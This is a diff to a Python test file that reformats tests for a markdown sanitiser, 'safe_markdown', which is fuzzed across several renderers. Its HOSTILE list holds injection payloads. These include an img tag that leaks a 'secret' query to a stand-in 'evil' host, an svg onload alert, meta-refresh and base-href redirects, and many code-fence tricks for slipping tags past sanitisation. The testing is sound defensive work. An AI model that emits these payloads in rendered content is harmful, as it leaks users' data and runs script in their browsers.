@@ -12,13 +12,41 @@ mistune = pytest.importorskip("mistune", reason="comes with the extra `test`")
 
 RENDERERS = {
     "commonmark": lambda text: markdown_it.MarkdownIt("commonmark", {"html": True}).render(text),
-    "tables": lambda text: markdown_it.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text),
+    "tables": lambda text: (
+        markdown_it.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)
+    ),
     "mistune": mistune.create_markdown(escape=False, plugins=["table", "url", "strikethrough", "math"]),
-}  # fmt: skip
+}
 HARMLESS = {
-    "p", "a", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br", "table", "thead", "tbody", "tr",
-    "th", "td", "del", "s", "h1", "h2", "h3", "h4", "h5", "h6", "div", "span",
-}  # fmt: skip
+    "p",
+    "a",
+    "em",
+    "strong",
+    "code",
+    "pre",
+    "ul",
+    "ol",
+    "li",
+    "blockquote",
+    "hr",
+    "br",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "del",
+    "s",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "div",
+    "span",
+}
 
 
 class Tags(HTMLParser):
@@ -61,17 +89,52 @@ def loads(html):
 
 IMG = '<img src="http://evil/?q=secret">'
 HOSTILE = [
-    IMG, "![x](http://evil/?q=1)", "![x][r]\n\n[r]: http://evil/1", "![x]\n\n[x]: http://evil/1", f"a {IMG} b",
-    "<svg/onload=alert(1)>", "<style>@import 'http://evil'</style>", "<!-- x --> <b>", "<?php ?>", "<![CDATA[x]]>",
-    "<video poster='http://evil'>", "<base href='http://evil'>", "<meta http-equiv=refresh content='0;url=http://evil'>",
-    f"foo ` bar\n`{IMG}`", f"\\`{IMG}`", f"| a | b |\n|---|---|\n| ` | {IMG} ` |", f"[a](b`c) {IMG} `d`",
-    f"http://a`b {IMG} `c`", f"$a ` b$ c ` d ` {IMG} `", f"``` ` \n{IMG}\n```", f"~~~\n```\n~~~\n{IMG}\n```",
-    f"- x\n\n      ```\n{IMG}\n      ```", f"> ```\n{IMG}", f"```\na\n````\n{IMG}", f"````\n```\n````\n{IMG}",
-    f"`a\n\n{IMG}\n\nb`", f"```\n$\n```\n$ {IMG}\n```\n{IMG}\n```", f'[a](\n`c "t") {IMG} `', f"``a ` {IMG} ``` `",
-    "<a\nhref='x'>", "<div\n\nonclick=1>", f"    {IMG}", f"\t{IMG}", "\\![x](http://evil/1)", "!\\[x](y) ![z](http://evil)",
-    "[![x](http://evil/1)](http://b)", f"a\r{IMG}\r\n{IMG}", f"`` ` {IMG}``", f"`{IMG}``", f"# `a\n{IMG} `",
-    "<IMG SRC=http://evil>", "</p><img src=http://evil>", f"1. `x\n2. {IMG}`", f"* ` {IMG}\n* `", f"*`{IMG}`*",
-]  # fmt: skip
+    IMG,
+    "![x](http://evil/?q=1)",
+    "![x][r]\n\n[r]: http://evil/1",
+    "![x]\n\n[x]: http://evil/1",
+    f"a {IMG} b",
+    "<svg/onload=alert(1)>",
+    "<style>@import 'http://evil'</style>",
+    "<!-- x --> <b>",
+    "<?php ?>",
+    "<![CDATA[x]]>",
+    "<video poster='http://evil'>",
+    "<base href='http://evil'>",
+    "<meta http-equiv=refresh content='0;url=http://evil'>",
+    f"foo ` bar\n`{IMG}`",
+    f"\\`{IMG}`",
+    f"| a | b |\n|---|---|\n| ` | {IMG} ` |",
+    f"[a](b`c) {IMG} `d`",
+    f"http://a`b {IMG} `c`",
+    f"$a ` b$ c ` d ` {IMG} `",
+    f"``` ` \n{IMG}\n```",
+    f"~~~\n```\n~~~\n{IMG}\n```",
+    f"- x\n\n      ```\n{IMG}\n      ```",
+    f"> ```\n{IMG}",
+    f"```\na\n````\n{IMG}",
+    f"````\n```\n````\n{IMG}",
+    f"`a\n\n{IMG}\n\nb`",
+    f"```\n$\n```\n$ {IMG}\n```\n{IMG}\n```",
+    f'[a](\n`c "t") {IMG} `',
+    f"``a ` {IMG} ``` `",
+    "<a\nhref='x'>",
+    "<div\n\nonclick=1>",
+    f"    {IMG}",
+    f"\t{IMG}",
+    "\\![x](http://evil/1)",
+    "!\\[x](y) ![z](http://evil)",
+    "[![x](http://evil/1)](http://b)",
+    f"a\r{IMG}\r\n{IMG}",
+    f"`` ` {IMG}``",
+    f"`{IMG}``",
+    f"# `a\n{IMG} `",
+    "<IMG SRC=http://evil>",
+    "</p><img src=http://evil>",
+    f"1. `x\n2. {IMG}`",
+    f"* ` {IMG}\n* `",
+    f"*`{IMG}`*",
+]
 
 
 @pytest.mark.parametrize("renderer", RENDERERS)
@@ -87,11 +150,44 @@ def test_these_texts_do_load_something_when_they_are_not_made_safe(text):
 
 pieces = st.lists(
     st.sampled_from(
-        [*HOSTILE, IMG, "`", "``", "```", "~~~", "\n", "\n\n", " ", "    ", "|", "\\", "$", "$$", "[", "](", ")", "<", ">", "!", "a",
-         "- ", "> ", "1. ", "# ", "http://x", "<http://x`>", "[r]: http://evil/2", "python", "|---|---|", "*", "_", "\t"]
+        [
+            *HOSTILE,
+            IMG,
+            "`",
+            "``",
+            "```",
+            "~~~",
+            "\n",
+            "\n\n",
+            " ",
+            "    ",
+            "|",
+            "\\",
+            "$",
+            "$$",
+            "[",
+            "](",
+            ")",
+            "<",
+            ">",
+            "!",
+            "a",
+            "- ",
+            "> ",
+            "1. ",
+            "# ",
+            "http://x",
+            "<http://x`>",
+            "[r]: http://evil/2",
+            "python",
+            "|---|---|",
+            "*",
+            "_",
+            "\t",
+        ]
     ),
     max_size=14,
-).map("".join)  # fmt: skip
+).map("".join)
 
 
 @settings(max_examples=600, deadline=None)
@@ -111,10 +207,17 @@ def test_nothing_hostile_is_left_while_the_text_still_grows(text, length):
 @pytest.mark.parametrize(
     "text",
     [
-        "plain *words* and **bold**", "x < y and a<5", "- one\n- two\n\n1. three", "| a | b |\n|---|---|\n| 1 | 2 |",
-        "[a link](http://x.org)", "$x^2 < 3$ and $$\\frac{1}{2}$$", "# Title\n\ntext", "> quoted", "use `a.b()` here",
+        "plain *words* and **bold**",
+        "x < y and a<5",
+        "- one\n- two\n\n1. three",
+        "| a | b |\n|---|---|\n| 1 | 2 |",
+        "[a link](http://x.org)",
+        "$x^2 < 3$ and $$\\frac{1}{2}$$",
+        "# Title\n\ntext",
+        "> quoted",
+        "use `a.b()` here",
     ],
-)  # fmt: skip
+)
 def test_what_is_harmless_is_left_as_it_is(text):
     assert safe_markdown(text) == text
 
